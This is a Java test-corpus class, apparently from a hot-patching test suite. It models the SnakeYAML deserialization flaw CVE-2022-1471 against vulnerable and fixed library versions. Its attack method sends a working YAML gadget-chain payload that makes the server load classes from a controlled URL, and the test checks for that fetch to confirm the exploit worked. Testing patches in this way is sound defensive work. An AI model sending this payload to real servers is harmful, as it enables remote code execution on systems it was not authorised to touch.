package dev.hotpatch.testdata.cve;

import dev.hotpatch.testdata.corpus.MavenArtifact;
import java.io.IOException;
import java.util.List;

/** A document of a stranger names classes of which the server makes objects; these load code from the stranger's address. */
public final class SnakeYaml implements Vulnerability {
    private static final String FIRST_REQUEST = "/META-INF/services/javax.script.ScriptEngineFactory";

    @Override
    public String cve() {
        return "CVE-2022-1471";
    }

    @Override
    public VictimProgram program() {
        return new VictimProgram(
                "YamlMain",
                MavenArtifact.jar("org.yaml", "snakeyaml", "1.33"),
                MavenArtifact.jar("org.yaml", "snakeyaml", "2.0"),
                List.of(),
                List.of());
    }

    @Override
    public Attempt attack(RunningVictim victim) throws IOException, InterruptedException {
        try (Trap codebase = Trap.set("")) {
            RunningVictim.Reply reply = victim.post(
                    "application/yaml",
                    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\""
                            + codebase.address("") + "\"]]]]");
            return new Attempt(codebase.asked().contains(FIRST_REQUEST), reply.text() + " " + codebase.asked());
        }
    }

    @Override
    public String use(RunningVictim victim) throws IOException, InterruptedException {
        return victim.post("application/yaml", "name: lamp\nprice: 12\nsizes: [1, 2]\n")
                .text();
    }
}
